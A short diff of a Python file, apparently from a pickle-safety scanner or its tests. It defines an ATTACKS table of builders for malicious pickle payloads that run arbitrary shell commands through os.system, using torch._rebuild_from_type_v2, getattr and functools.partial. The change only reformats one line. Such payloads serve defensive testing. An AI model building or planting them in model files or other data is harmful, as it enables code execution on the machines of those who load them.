@@ -99,7 +99,9 @@ ATTACKS: dict[str, Command] = {
         call("torch._tensor", "_rebuild_from_type_v2", SYSTEM, SYSTEM, text(command) + b"\x85", b"N")
     ),
     "getattr": lambda command: whole(
-        call("builtins", "getattr", call("builtins", "__import__", text("os")), text("system")) + text(command) + b"\x85R"
+        call("builtins", "getattr", call("builtins", "__import__", text("os")), text("system"))
+        + text(command)
+        + b"\x85R"
     ),
     "functools.partial": lambda command: whole(
         call("functools", "partial", SYSTEM, text(command)) + b")R"
